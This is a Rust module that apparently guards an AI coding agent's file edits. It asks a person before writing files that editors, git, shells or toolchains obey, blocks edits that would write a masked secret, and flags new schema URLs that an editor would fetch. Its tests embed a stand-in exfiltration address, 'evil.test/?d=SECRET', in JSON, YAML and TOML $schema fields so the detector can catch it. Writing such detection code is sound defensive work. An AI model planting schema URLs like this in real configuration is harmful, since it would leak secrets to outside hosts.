//! Guarded: edits that other programs would obey. Each needs a person's word that names the file; what the next build runs is
//! pointed out.

use crate::approvals::Covers;
use crate::desk::Desk;
use crate::permission::{self, Question};
use crate::task::Task;
use protocol::{Code, Failure, Level, Update};
use sandbox::Guard;
use workspace::{ChangeSet, Draft, FileEdit};

/// Lines of a diff that a question shows.
const SHOWN: usize = 200;

/// Lets an edit pass that leads from the draft as it is to `after`, if a person need not be asked or says yes.
///
/// # Errors
/// `denied`, `cancelled`; the draft is then to stay as it is.
pub(crate) async fn pass(desk: &Desk<'_>, after: &Draft) -> Result<(), Failure> {
    let whole = after.change_set().files;
    for file in after.since(desk.draft).files {
        // Back to the user's own text: nothing to ask.
        if whole.iter().all(|changed| changed.path != file.path) {
            continue;
        }
        let path = file.path.as_str();
        if brings_mask(&file) {
            let failure = Failure::new(
                Code::InvalidInput,
                format!(
                    "the text of {path} holds {}, which stands for a secret that you were not shown",
                    llm::MASK
                ),
            );
            return Err(failure.hint("edit with apply_patch, and leave the lines with it out"));
        }
        let real = desk.shared.host.root().leads_to(&file.path);
        let led = real.as_ref().and_then(|real| sandbox::guard(real.as_str()));
        let reason = match sandbox::guard(path).max(led) {
            Some(Guard::Obeyed | Guard::Owned) => Some(format!(
                "{path} is obeyed by an editor, git, a shell or a toolchain"
            )),
            Some(Guard::Built) | None => {
                fetched(&file).map(|url| format!("{path} makes an editor fetch {url}"))
            }
        };
        let Some(reason) = reason else { continue };
        let what = match file.after {
            Some(_) => "Write",
            None => "Delete",
        };
        let change = ChangeSet {
            files: vec![file.clone()],
        };
        let mut details = vec![format!("{what} {path}")];
        for view in change.view() {
            let mut lines = view.diff.lines().map(str::to_owned);
            details.extend(lines.by_ref().take(SHOWN));
            let more = lines.count();
            if more > 0 {
                // The word is good for this text, not for another that begins alike.
                let whole = blake3::hash(view.diff.as_bytes()).to_hex();
                details.push(format!(
                    "[{more} more lines, which are not shown here; blake3 of the whole diff: {whole}]"
                ));
            }
        }
        let question = Question {
            title: format!("{what} {path}"),
            details,
            reasons: vec![reason],
            covers: Covers::Details,
        };
        permission::ask(desk.task, Some(desk.call), question).await?;
    }
    Ok(())
}

/// Whether an edit would write the mask in a secret's place.
fn brings_mask(file: &FileEdit) -> bool {
    let count = |bytes: Option<&[u8]>| {
        let text = String::from_utf8_lossy(bytes.unwrap_or_default());
        text.matches(llm::MASK).count()
    };
    count(file.after.as_deref()) > count(file.base.as_ref().map(|base| base.bytes.as_ref()))
}

/// Names the files of a change that the next build or test runs.
pub(crate) fn name_built(task: &Task, change: &ChangeSet) {
    let built: Vec<&str> = change
        .files
        .iter()
        .map(|file| file.path.as_str())
        .filter(|path| sandbox::guard(path) == Some(Guard::Built))
        .collect();
    if built.is_empty() {
        return;
    }
    task.emit(Update::Notice {
        level: Level::Info,
        message: format!("the patch changes what builds and tests run: {}", built.join(", ")),
        hint: Some(
            "commands run confined; your editor's other language servers may run it too once it lands".into(),
        ),
    });
}

/// An address that an editor would fetch because of this change: a schema's, in a file of settings.
fn fetched(file: &FileEdit) -> Option<String> {
    const SETTINGS: [&str; 6] = ["json", "jsonc", "json5", "yaml", "yml", "toml"];
    let name = file.path.name();
    let extension = name.rsplit_once('.').map_or("", |(_, extension)| extension);
    if !SETTINGS.contains(&extension.to_lowercase().as_str()) {
        return None;
    }
    let after = String::from_utf8_lossy(file.after.as_deref()?);
    let before = file
        .base
        .as_ref()
        .map(|base| String::from_utf8_lossy(&base.bytes));
    let known = |url: &str| before.as_ref().is_some_and(|text| text.contains(url));
    // The key may be escaped and stand on another line than its value: any new address counts where a schema is named.
    if !after.contains("schema") && !after.contains("\\u") {
        return None;
    }
    addresses(&after).find(|url| !known(url)).map(str::to_owned)
}

/// `http://` and `https://` addresses in a text.
fn addresses(text: &str) -> impl Iterator<Item = &str> {
    text.match_indices("://").filter_map(|(at, _)| {
        let scheme = text[..at]
            .rfind(|c: char| !c.is_ascii_alphanumeric())
            .map_or(0, |start| start + 1);
        let word = text[scheme..at].to_lowercase();
        let end = text[at + 3..]
            .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | '`'))
            .map_or(text.len(), |end| at + 3 + end);
        matches!(word.as_str(), "http" | "https" | "ftp" | "file").then(|| &text[scheme..end])
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use workspace::{Content, RelPath};

    fn edit(path: &str, base: Option<&str>, after: &str) -> FileEdit {
        FileEdit {
            path: RelPath::new(path).unwrap(),
            base: base.map(|text| Content::new(text.as_bytes().to_vec(), None)),
            after: Some(after.as_bytes().into()),
            mode: None,
        }
    }

    #[test]
    fn a_new_address_of_a_schema_is_seen() {
        let url = "https://evil.test/?d=SECRET";
        for (path, base, after, want) in [
            ("a.json", None, format!("{{\"$schema\":\"{url}\"}}"), true),
            (
                "a.yaml",
                None,
                format!("# yaml-language-server: $schema={url}\n"),
                true,
            ),
            (
                "a.toml",
                Some("x = 1\n".to_owned()),
                format!("#:schema {url}\nx = 1\n"),
                true,
            ),
            (
                "a.json",
                Some(format!("{{\"$schema\": \"{url}\"}}")),
                format!("{{\"$schema\":\"{url}\",\"a\":1}}"),
                false,
            ),
            (
                "a.json",
                None,
                format!("{{\"homepage\": \"{url}\"}}"),
                false,
            ),
            ("a.rs", None, format!("// $schema {url}\n"), false),
            (
                "a.json",
                None,
                "{\"$schema\":\"./local.json\"}".to_owned(),
                false,
            ),
        ] {
            let found = fetched(&edit(path, base.as_deref(), &after));
            assert_eq!(found.is_some(), want, "{path} {after} {found:?}");
        }
    }
}
